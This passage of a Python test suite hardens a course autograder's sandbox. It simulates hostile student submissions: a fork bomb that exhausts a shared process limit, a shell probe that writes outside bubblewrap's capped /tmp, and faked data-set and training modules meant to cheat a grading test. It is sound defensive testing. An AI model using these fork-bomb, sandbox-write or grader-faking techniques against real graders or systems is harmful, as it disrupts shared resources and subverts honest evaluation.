    return float(np.max(np.abs(x - y) / np.maximum(1e-8, np.abs(x) + np.abs(y))))


with concurrent.futures.ThreadPoolExecutor(1) as pool:
    return pool.submit(work).result()
"""


def test_process_limit_is_not_shared_between_students(tmp_path) -> None:
    """One student's fork bomb must not take the process budget of the students graded next
    to it: here a correct rel_error that uses a thread still earns every point. (It does
    not: every worker runs as uid 65534, and RLIMIT_NPROC counts the processes of a uid, so
    while the bomb's children live no other worker can start a thread or a process.)"""
    attackers = {
        "fork_holder": with_init(fill(HOLD_PROCESSES)),
        "threaded_honest": rel_error_attack(THREADED_REL_ERROR),
    }
    batch = run_batch(tmp_path, attackers, jobs=3, deadline=120)
    assert_earned_only_honest_part(batch, "fork_holder")  # also: no child survived
    victim = batch["threaded_honest"]
    failed = {t.test: t.feedback for t in victim.tests if not t.passed}
    assert victim.score == victim.max_score, failed


def _others_can_read(path: str) -> bool:
    """Whether a user other than the owner can reach ``path`` (every parent searchable)."""
    where = Path(path)
    return bool(where.stat().st_mode & stat.S_IROTH) and all(
        p.stat().st_mode & stat.S_IXOTH for p in where.parents
    )


def test_unprivileged_grader_sandbox_has_no_writable_root() -> None:
    """Run by an ordinary user (the instructor's laptop), the worker must still be able to
    write only its size-capped /tmp. The sandbox the launcher builds is run here as an
    unprivileged uid, with a shell in place of the worker; it tries to write to /, to
    /submission (beside its read-only package), to /dev and /dev/shm. (It can: bubblewrap's
    root, its folders and /dev are tmpfs owned by the sandbox's own user, capped at half the
    machine's memory instead of limits.tmp_size, and not counted by RLIMIT_AS.)"""
    unprivileged: list[str] = []  # as root, become an ordinary user (uid 1000) first
    if os.getuid() == 0:
        if not Path("/usr/bin/setpriv").exists():
            pytest.skip("needs setpriv to act as an unprivileged grader")
        unprivileged = ["/usr/bin/setpriv", "--reuid=1000", "--regid=1000", "--clear-groups"]
    with tempfile.TemporaryDirectory() as tmp:
        os.chmod(tmp, 0o755)
        package = write_submission(Path(tmp) / "a1_backprop", honest_files())
        with mock.patch.object(launcher.os, "getuid", return_value=1000):  # an ordinary user
            command = launcher.bubblewrap_command(launcher.bubblewrap(), package, FAST)
        # That user could not bind what it cannot read (here: a Python under /root).
        for i in reversed(range(len(command) - 2)):
            if command[i] == "--ro-bind" and not _others_can_read(command[i + 1]):
                del command[i : i + 3]
        script = (
            "for d in / /submission /dev /dev/shm /tmp; do "
            f"echo x > $d/w-{TOKEN} 2>/dev/null && echo WROTE $d; done; true"
        )
        ran = subprocess.run(
            [*unprivileged, *command, "/bin/sh", "-c", script],
            capture_output=True,
            text=True,
            timeout=30,
        )
    if "WROTE /tmp" not in ran.stdout:
        pytest.skip(f"bubblewrap does not run unprivileged here: {ran.stderr.strip()}")
    assert ran.stdout.splitlines() == ["WROTE /tmp"], ran.stdout


def test_given_code_is_the_graders_own(tmp_path):
    """Given modules (a1's data set and training loop) are the grader's copy, whatever the
    student submitted: a one-class "spirals" data set and a training loop that does nothing,
    with a network that scores every class 0, no longer learn the spirals."""
    skeleton = COURSE / "assignments" / "a1_backprop"
    package = copy_package(skeleton, tmp_path / "in" / "faker")
    (package / "data.py").write_text(
        "import numpy as np\n"
        "def make_spirals(n_per_class=100, n_classes=3, noise=0.2, seed=0):\n"
        "    n = n_per_class * n_classes\n"
        "    return np.zeros((n, 2)), np.zeros(n, int)\n"
    )
    (package / "training.py").write_text(
        "def train_classifier(model, X, y, **options):\n    return [0.0]\n"
        "def accuracy(model, X, y):\n    return 1.0\n"
    )
    (package / "fc_net.py").write_text(
        "import numpy as np\n"
        "class FullyConnectedNet:\n"
        "    def __init__(self, hidden_dims, input_dim, num_classes, **options):\n"
        "        self.params, self.num_classes = {}, num_classes\n"
        "    def loss(self, X, y=None):\n"
        "        return np.zeros((len(X), self.num_classes))\n"
    )
    result = grade(tmp_path / "in", tmp_path / "out")["faker"]
    spirals = next(t for t in result.tests if t.test == "test_fc_net_learns_the_spirals")
    assert not spirals.passed, "a faked data set and training loop earned the spirals test"
    staged = tmp_path / "out" / "staging" / "faker" / "a1_backprop"
    assert (staged / "data.py").read_bytes() == (skeleton / "data.py").read_bytes()
